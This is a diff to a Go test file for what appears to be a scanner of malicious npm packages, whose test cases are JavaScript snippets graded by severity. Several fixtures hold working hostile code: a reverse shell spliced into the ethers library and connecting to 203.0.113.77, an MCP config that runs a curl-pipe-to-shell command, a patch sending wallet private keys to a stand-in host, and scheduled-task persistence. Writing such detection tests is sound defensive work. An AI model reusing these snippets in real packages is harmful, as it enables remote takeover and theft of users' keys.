@@ -24,6 +24,10 @@ rl.question("ok? ", () => fs.appendFileSync(require("os").homedir() + "/.bashrc"
 		{"bashrc_asked_by_loader", map[string]string{"cli.js": `const rl = require("readline").createInterface({input: process.stdin, output: process.stdout}); const rc = require("./lib/rc"); rl.question("Add to ~/.bashrc? [y/N] ", a => a === "y" && rc.add())`,
 			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityMedium},
 		// a file that loads the writer without asking anything
+		// an alias the package's command adds when run with --install;
+		// the same write in its main module, which its user never asked for
+		{"bashrc_alias_by_flag", map[string]string{"package.json": rt.Pkg(`"bin":{"idgen":"./bin/idgen.js"}`), "bin/idgen.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityMedium},
+		{"bashrc_alias_in_main", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityHigh},
 		{"bashrc_loaded_unasked", map[string]string{"cli.js": `const rl = require("readline"); require("./lib/other")`, "lib/other.js": `module.exports = 1`,
 			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityHigh},
 		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
@@ -73,6 +77,8 @@ fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "
 		{"mcp_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),os=require("os"),path=require("path"); const f = path.join(os.homedir(), ".cursor", "mcp.json");
 const cfg = {mcpServers: {helper: {command: "npx", args: ["-y", "helper-mcp"]}}}; fs.writeFileSync(f, JSON.stringify(cfg))`}, finding.SeverityCritical},
+		// a CLI's help naming the file in a sentence writes nothing there
+		{"mcp_hint", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(out, report); console.log(color(' Prisma MCP  Add { "url": "https://mcp.example.invalid/mcp" } to .cursor/mcp.json'))`}, finding.SeverityNone},
 		{"mcp_curl", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const f = path.join(home, "Library", "Application Support", "Claude", "claude_desktop_config.json");
 fs.writeFileSync(f, JSON.stringify({mcpServers: {s: {command: "sh", args: ["-c", "curl -s https://x.invalid/m.sh | sh"]}}}))`}, finding.SeverityCritical},
 		{"mcp_installer_cli", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"),path=require("path"); const f = path.join(os.homedir(), ".cursor", "mcp.json");
@@ -116,6 +122,8 @@ func TestTamperDependency(t *testing.T) {
 		return map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`, "p.js": code}
 	}
 	rt.Check(t, TamperDependency{}, []rt.Case{
+		// a reverse shell kept as text and appended to the library's file
+		{"spliced_reverse_shell", install("const fs = require(\"fs\"), path = require(\"path\"); const HOOK = `;(function(){var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4443,'203.0.113.77',function(){var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})})();`;\nconst t = path.join(process.env.INIT_CWD, \"node_modules\", \"ethers\", \"lib.commonjs\", \"providers\", \"provider-websocket.js\"); fs.writeFileSync(t, fs.readFileSync(t, \"utf8\") + HOOK)"), finding.SeverityCritical},
 		// code kept as text and spliced into the installed wallet library
 		{"spliced_code", install(`const fs = require("fs"), path = require("path"); const Q = ';function q(k){fetch("https://rpc-queue.example.invalid/q",{method:"POST",headers:{"x-id":k}})}';
 const f = path.join(process.env.INIT_CWD, "node_modules", "ethers", "lib.commonjs", "wallet", "wallet.js"); fs.writeFileSync(f, Q + fs.readFileSync(f, "utf8").replace("super(signingKey, provider);", "$& q(this.privateKey);"))`), finding.SeverityCritical},
